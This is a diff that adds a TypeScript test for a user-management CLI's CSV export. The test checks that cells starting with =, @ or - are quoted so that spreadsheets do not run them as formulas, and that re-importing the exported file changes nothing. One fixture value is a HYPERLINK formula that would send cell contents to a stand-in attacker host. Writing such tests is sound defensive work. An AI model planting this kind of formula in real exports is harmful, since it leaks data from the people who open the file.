@@ -315,3 +315,47 @@ describe('users import (good and bad rows)', () => {
     expect(err.trim()).toBe('error: bad.csv:1: unknown column "mail" in the header; the header must be email,name,role[,phone]');
   });
 });
+
+describe('users export: cells a spreadsheet would run as a formula (read back through a second Cognito client)', () => {
+  let p: TestProject;
+  const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")';
+  beforeAll(async () => {
+    // GIVEN users whose names start with =, @ and -, one with a phone (which always starts with +)
+    p = makeProject();
+    for (const [email, name, phone] of [
+      ['eve@turn.example', HYPERLINK, '+4915112345678'],
+      ['sum@turn.example', '@SUM(1)', undefined],
+      ['minus@turn.example', '-2+3', undefined],
+    ] as const) {
+      const add = await run(p, ['users', 'add', email, '--role', 'support', '--name', name, ...(phone ? ['--phone', phone] : []), '--suppress-invite']);
+      expect(add.code, add.err).toBe(0);
+    }
+    const poolId = (await poolIdByName(cognito, `${p.name}-local-portal`))!;
+    expect((await readUser(cognito, poolId, 'eve@turn.example'))!.attrs.name).toBe(HYPERLINK);
+  });
+
+  it('WHEN exported as CSV THEN those cells start with a quote and the E.164 phone is as it is; re-importing the file changes nothing', async () => {
+    const exported = await run(p, ['users', 'export']);
+    expect(exported.code).toBe(0);
+    expect(exported.io.stdout).toEqual([
+      'email,name,role,phone',
+      `eve@turn.example,"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",support,+4915112345678`,
+      'minus@turn.example,\'-2+3,support,',
+      'sum@turn.example,\'@SUM(1),support,',
+    ]);
+    p.write('exported.csv', `${exported.out}\n`);
+    // WHEN the export is imported again (dry run) THEN every row is unchanged
+    const dry = await run(p, ['users', 'import', 'exported.csv']);
+    expect(dry.code, dry.err).toBe(0);
+    expect(dry.out.split('\n')).toEqual([
+      'exported.csv:2: unchanged eve@turn.example',
+      'exported.csv:3: unchanged minus@turn.example',
+      'exported.csv:4: unchanged sum@turn.example',
+      'dry run: 0 would create, 0 would update, 3 unchanged, 0 invalid, 0 would fail (pass --apply to make the changes)',
+    ]);
+    // AND with --apply --update no write call is made
+    const { result, writes } = await counting(() => run(p, ['users', 'import', 'exported.csv', '--apply', '--update']));
+    expect(result.code).toBe(0);
+    expect(writes).toEqual([]);
+  });
+});
